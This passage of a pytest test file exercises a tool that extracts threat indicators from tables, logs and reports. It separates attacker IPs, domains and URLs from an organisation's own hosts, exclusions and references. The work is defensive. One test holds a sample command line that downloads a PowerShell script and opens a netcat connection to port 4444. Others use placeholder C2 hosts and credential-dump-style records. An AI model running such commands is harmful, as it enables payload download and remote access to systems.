    "headings",
    [
        ("Host", "External IP", "User"),
        ("Computer", "External IP", "User"),
        ("Device", "IP Address", "Operating system"),
        ("Hostname", "Primary IP", "OS"),
        ("User", "Source IP", "Source Computer"),
    ],
)
def test_addresses_of_the_house_are_told_by_what_stands_beside_them(headings: tuple[str, ...]) -> None:
    assert taken(headings, tuple("81.12.33.4" if "IP" in heading else "x" for heading in headings)) == []


@pytest.mark.parametrize("headings", [("Entity", "Entity Type", "Value"), ("Entity", "Entity Type", "Data")])
def test_a_column_of_values_hears_every_column_of_types(headings: tuple[str, ...]) -> None:
    assert taken(headings, ("Contoso", "victim", "client.com"), ("x", "domain", "evil.com")) == ["evil.com"]


def test_the_first_row_of_data_names_no_columns() -> None:
    rows = [("Filename", "payload.ps1", "Dropper"), ("IP", "45.9.148.81", "C2"), ("Domain", "evil.com", "C2")]
    for order in (rows, rows[::-1]):
        assert sorted(taken(("Type", "Indicator", "Description"), *order)) == ["45.9.148.81", "evil.com"]
    assert taken(("User", "NTLM", "Note"), ("Hash", "File", "x"), ("bob", "a", "evil.com")) == []


def test_groups_above_headings_say_whose_values_are() -> None:
    rows = [
        ("Host", "", "Network", ""),
        ("MD5", "SHA256", "IP", "Domain"),
        (md5("a"), sha256("a"), "45.9.148.81", "evil.com"),
    ]
    assert taken(*rows) == ["45.9.148.81", "evil.com"]


def test_headings_of_thousands_of_columns_are_read_in_a_moment() -> None:
    assert len(read_together(["IP", "Hostname"] * 20_000)) == 40_000


@pytest.mark.parametrize("group", ["Victim", "Affected systems", "Our machines"])
def test_a_group_above_the_headings_says_whose_its_columns_are(group: str) -> None:
    rows = [(group, "", "Attacker", ""), ("Name", "IP", "IP", "Domain"), ("a", "81.12.33.4", "45.9.148.81", "evil.com")]
    assert taken(*rows) == ["45.9.148.81", "evil.com"]


@pytest.mark.parametrize("heading", ["atom_value", "data.id", "Observable value"])
def test_a_type_is_of_a_column_of_values_or_ids_whatever_else_the_table_has(heading: str) -> None:
    rows = [("type", heading, "sha256"), ("domain", "evil.com", ""), ("ip_address", "45.9.148.81", sha256("a"))]
    assert taken(*rows) == ["evil.com", "45.9.148.81"]


def test_what_a_firewall_s_log_writes_behind_a_slash_is_a_port() -> None:
    log = ("Built TCP connection 1 for outside:80.87.12.9/443 (80.87.12.9/443) to inside:10.1.1.7/22 (10.1.1.7/51234)",)
    placement = scanned(log, ("Deny tcp src outside:80.87.12.10/41234 dst inside:10.1.1.8/22",), kinds=ALL)
    assert [s.value for s in placement if s.kind in ("ip", "url", "network")] == [
        *("80.87.12.9", "80.87.12.9", "10.1.1.7", "10.1.1.7", "80.87.12.10", "10.1.1.8")
    ]
    assert {s.value for s in placement if s.found is Found.INDICATOR} >= {"80.87.12.9", "80.87.12.10"}
    seen = scanned(("80.87.12.0/24 80.87.13.9/gate.php",), kinds=ALL)
    assert [(s.kind, s.value) for s in seen] == [("network", "80.87.12.0/24"), ("url", "http://80.87.13.9/gate.php")]


@pytest.mark.parametrize(
    ("headings", "row"),
    [
        (("Name", "Domain", "IPAddresses", "FQDN"), ("ws1", "client.com", "52.3.4.5", "ws1.client.com")),
        (("AssetName", "Domain", "IPAddress", "Fqdn"), ("WEB01", "client.com", "52.3.4.5", "web01.client.com")),
        (("IP", "DNS", "NetBIOS", "OS", "QID"), ("52.3.4.5", "www.client.com", "WEB01", "Linux", "38116")),
        (("Endpoints", "Hash", "Console Visible IP"), ("WS1", md5(1), "52.3.4.5")),
        (("Object", "MD5", "Device", "IP address"), ("C:\\a.exe", md5(1), "WS1", "52.3.4.5")),
        (("DeviceName", "ProcessCommandLine"), ("ws1.client.com", "whoami")),
        (("PublicDnsName", "PublicIp"), ("ec2-52-3-4-5.compute.amazonaws.com", "52.3.4.5")),
    ],
)
def test_what_inventories_and_consoles_say_of_one_s_own_machines_stays_home(
    headings: tuple[str, ...], row: tuple[str, ...]
) -> None:
    assert taken(headings, row, row) == []


def test_from_where_somebody_signed_in_is_asked_for() -> None:
    headings = ("Date (UTC)", "IP address", "Device ID", "Operating System", "Username")
    assert taken(headings, ("2026-11-20", "80.87.12.9", "", "Windows", "max")) == ["80.87.12.9"]


def test_a_list_of_risks_names_its_values() -> None:
    assert taken(("Name", "Risk", "RiskString"), ("evil-gate99.top", "89", "3/17")) == ["evil-gate99.top"]


def test_a_line_of_a_label_and_an_address_is_no_heading() -> None:
    lines = (
        ("Affected host: web01.client.com (52.1.1.8)",),
        ("Attacker IP: 84.226.102.236",),
        (f"Its file is {md5(1)}.",),
    )
    assert taken(*lines) == ["84.226.102.236"]


@pytest.mark.parametrize("label", ["Our egress IP is", "Our external IP address:", "The customer's public IP is"])
def test_the_address_that_a_sentence_calls_one_s_own_stays_home(label: str) -> None:
    assert taken((f"{label} 52.1.1.9",), ("80.87.12.9",)) == ["80.87.12.9"]


def test_a_threat_with_its_type_is_the_value_itself() -> None:
    assert taken(("threat", "threatType"), ("http://evil-gate99.top/a", "URL")) == ["http://evil-gate99.top/a"]


@pytest.mark.parametrize("heading", ["url_private", "FalconHostLink", "externalUri"])
def test_a_page_in_one_s_own_console_is_a_reference(heading: str) -> None:
    assert taken(("Domain", heading), ("a.com", "https://console.example.net/tenant/1")) == ["a.com"]


@pytest.mark.parametrize(
    ("above", "title"),
    [
        ("QAKBOT VERSION\n404.432", "QAKBOT C2s"),
        ("UNPACKED DLL FILE HASH\na0000.dll", "PAYLOAD DOWNLOAD URLs"),
        ("Converts to:\nTue 27 December 2022", "QAKBOT C2s"),
        ("LNK FILE TARGETS\nC:\\\\Windows\\\\a.exe", "Emotet C2s"),
    ],
)
def test_a_few_words_apart_that_ask_for_values_end_a_title_in_capitals(above: str, title: str) -> None:
    lines = f"{above}\n\n{title}\n79.9.64.37:995\nhttp://evil.com/a\n".split("\n")
    rows = [Row(number, (line,)) for number, line in enumerate(lines, 1) if line]
    placement = scan_sheet("", rows, kinds=ALL)
    assert [s.value for s in placement if s.found is Found.INDICATOR] == ["79.9.64.37", "http://evil.com/a"]


@pytest.mark.parametrize(
    "title", ["C2 TRAFFIC TO", "BASE64 DECODES TO", "DLL FILE HASHES", "SCRIPT CONTENTS", "'POST',", "FIRST EMAIL"]
)
def test_titles_of_files_people_and_texts_say_nothing_of_addresses_below_them(title: str) -> None:
    assert taken((title,), ("79.9.64.37",), ("http://evil.com/a",)) == ["79.9.64.37", "http://evil.com/a"]


@pytest.mark.parametrize("title", ["VICTIMS", "TARGETS", "REFERENCES", "CONTENTS", "INTERNAL HOSTS"])
def test_titles_of_victims_and_references_are_heard_above_addresses(title: str) -> None:
    assert taken((title,), ("http://client.com/a",), (md5(1),)) == []


def test_the_type_of_a_hash_says_nothing_of_the_url_in_its_note() -> None:
    placement = scanned(("Indicator_type", "Data", "Note"), ("sha256", sha256(1), "cdn.evil.com/1/a.exe"), kinds=ALL)
    reasons = [s.reason for s in placement if s.kind == "url"]
    assert reasons == ["nothing says what the column 'Note' holds"]


def test_what_zscaler_says_was_visited_is_asked_for() -> None:
    rows = [("login", "ehost", "eurl"), ("max", "evil.net", "evil.net/a.exe")]
    assert taken(*rows) == ["evil.net", "http://evil.net/a.exe"]
    assert taken(("url", "login", "ehost"), ("-", "max", "evil.net")) == []


def test_a_list_of_references_is_one_whatever_sort_each_is_of() -> None:
    rows = [
        Row(1, ("type", "url")),
        Row(2, ("website", "https://a.example.net/")),
        Row(3, ("distribution", "https://b.net/x")),
    ]
    for sheet, count in (("components.externalReferences", 0), ("components.downloads", 2)):
        placement = scan_sheet(sheet, rows, declared_header=1, kinds=ALL)
        assert sum(s.found is Found.INDICATOR for s in placement) == count


def test_the_type_beside_a_value_is_heard_in_a_list_without_headings() -> None:
    rows = [
        ("max", "domain", "invoice.zip", "x"),
        ("eva", "url", "http://evil.net/a", "x"),
        ("eva", "domain", "a.gz.evil.net", "y"),
    ]
    assert taken(*rows) == ["invoice.zip", "http://evil.net/a", "a.gz.evil.net"]
    assert taken(("max", "script", "invoice.zip", "x"), ("eva", "url", "http://evil.net/a", "x")) == [
        "http://evil.net/a"
    ]


def test_whom_the_house_s_mail_is_for_is_the_house() -> None:
    rows = [("Email sender domain", "Email recipient domains", "URL"), ("evil.net", "client.com", "-")]
    assert taken(*rows) == ["evil.net"]


def test_the_domain_of_an_account_is_the_house_s_in_a_record_of_nothing_else() -> None:
    record = ["== Kerberos ==", f"{' ' * 20}Username: max", f"{' ' * 20}Domain: CLIENT.COM", "== WDIGEST =="]
    assert taken(*((line,) for line in record)) == []
    marked = [f"{' ' * 16}* Username : max", f"{' ' * 16}* Domain   : CLIENT.COM", f"{' ' * 16}* Password : (null)"]
    assert taken(*((line,) for line in marked)) == []
    attack = ["Username: max", "Domain: evil.net", "Port: 443", "Malware: x"]
    assert taken(*((line,) for line in attack)) == ["evil.net"]


def test_where_a_lock_file_has_a_package_from_is_a_reference() -> None:
    lock = [("version", "resolved", "integrity"), ("1.0.0", "https://registry.example.net/a/-/a-1.0.0.tgz", "sha512-x")]
    assert taken(*lock) == []
    assert taken(("query", "resolved"), ("evil.net", "45.77.34.1")) == ["evil.net", "45.77.34.1"]


def test_what_calls_in_a_cloud_s_own_log_is_no_host() -> None:
    rows = [("eventName", "sourceIPAddress"), ("x", "health.amazonaws.com"), ("y", "evil.s3.amazonaws.com")]
    assert taken(*rows) == ["evil.s3.amazonaws.com"]


@pytest.mark.parametrize("heading", ["CommandLine", "process.command_line", "Arguments", "args", "ParentCommandLine"])
def test_what_a_program_was_told_to_fetch_is_asked_for(heading: str) -> None:
    command = "powershell iwr http://a.example.net/x.ps1 -o x; nc 8.8.8.8 4444; nslookup b.example.net"
    rows = [("Time", heading, "User"), ("2026-10-01", command, "max")]
    assert sorted(taken(*rows)) == ["8.8.8.8", "http://a.example.net/x.ps1"]


def test_what_plaso_tells_of_an_event_is_asked_for() -> None:
    rows = [
        ("date", "sourcetype", "host", "short", "desc"),
        ("01/02/2026", "Chrome History", "ws1", "a", "http://a.example.net/x (Title)"),
    ]
    assert taken(*rows) == ["http://a.example.net/x"]


def test_the_addresses_of_a_cluster_of_one_s_own_stay_home() -> None:
    host = "a1-1.elb.eu-west-1.amazonaws.com"
    assert (
        taken(("NAME", "CLASS", "HOSTS", "ADDRESS", "PORTS", "AGE"), ("w", "x", "shop.example.net", host, "80", "3d"))
        == []
    )
    nodes = ("NAME", "STATUS", "ROLES", "AGE", "INTERNAL-IP", "EXTERNAL-IP")
    assert taken(nodes, ("n1", "Ready", "worker", "3d", "10.0.0.1", "81.2.69.67")) == []
    assert taken(("Name", "Age", "Address"), ("evil", "3d", "81.2.69.67")) == ["81.2.69.67"]


NAMES = [
    ("a.example.net",),
    ("b.example.org",),
    ("c.example.com",),
    ("d.example.info",),
    ("pay-now.zip",),
    ("e.example.biz",),
]


def test_a_list_of_domains_goes_on_with_one_that_ends_as_files_do() -> None:
    assert "pay-now.zip" in taken(*NAMES)
    assert "gov.example.net" in taken(*NAMES[:4], ("gov.example.net",))
    for other in ("setup.exe", "a few words", "update.sh"):
        assert "pay-now.zip" not in taken(*NAMES, (other,))
    assert "pay-now.zip" not in taken(*NAMES, ("see readme.md",))
    assert "pay-now.zip" not in taken(("Name", "Size"), *((name, "1") for (name,) in NAMES))


def test_what_stands_below_hashes_is_no_file_for_their_title() -> None:
    rows = [("SHA256",), *((sha256(n),) for n in "abcd"), ("a.example.net",), ("b.example.org",)]
    assert taken(*rows) == ["a.example.net", "b.example.org"]
    assert taken(("File names",), ("a.example.net",), ("b.example.org",)) == []


def test_a_pair_of_a_type_and_a_host_has_no_headings() -> None:
    assert taken(("Host", "a.example.net"), ("MD5", md5("a"))) == ["a.example.net"]
    assert taken(("domain", "host.name"), ("a.example.net", "ws1")) == ["a.example.net"]


def test_the_title_of_an_article_says_nothing_of_whose_values_are() -> None:
    rows = [("Host", "a.example.net"), ("Host", "b.example.org"), ("Host", "c.example.com")]
    name = "quarian-group-targets-victims-with-spearphishing-attacks.csv"
    assert taken(*rows, file=name) == ["a.example.net", "b.example.org", "c.example.com"]
    assert taken(*rows, file="acme-victims-2026.csv") == []


def test_the_first_field_of_a_pair_in_a_table_within_a_text_is_its_label() -> None:
    rows = [
        ("### Mac OS samples",), ("| Feb 2018 | |",), ("|---|---|",), (f"| Dropper | {sha256('a')} |",),
        ("| C&C | `a.example.net` `b.example.org` |",),
    ]  # fmt: skip
    assert taken(*rows) == ["a.example.net", "b.example.org"]


def test_a_legend_is_no_title() -> None:
    assert taken(("#W <domain> = whitelisted",), ("",), ("a.example.net",), ("b.example.org",)) == [
        "a.example.net",
        "b.example.org",
    ]


@pytest.mark.parametrize("line", ['local-zone: "{}" redirect', 'local-zone: "{}." static', "local=/{}/", "server=/{}/"])
def test_zones_that_a_resolver_answers_for_are_blocked_where_a_long_list_has_nothing_else(line: str) -> None:
    names = [f"n{number}.example.net" for number in range(30)]
    assert taken(*((line.format(name),) for name in names)) == names
    assert taken(*((line.format(name),) for name in names[:5])) == []
    settings = [(f"option{number}: yes",) for number in range(20)]
    assert taken(*settings, *((line.format(name),) for name in names)) == []


def test_a_zone_whose_data_point_to_nowhere_is_blocked() -> None:
    rows = [('local-zone: "a.example.net" redirect',), ('local-data: "a.example.net A 0.0.0.0"',)]
    assert taken(*rows) == ["a.example.net"]


@pytest.mark.parametrize("title", ["EXCLUDE_DOMAINS:", "# Exclusions", "Safelist:", "# Excluded sites"])
def test_what_is_excluded_stays_home(title: str) -> None:
    assert taken((title,), ("a.example.net",), ("b.example.org",)) == []
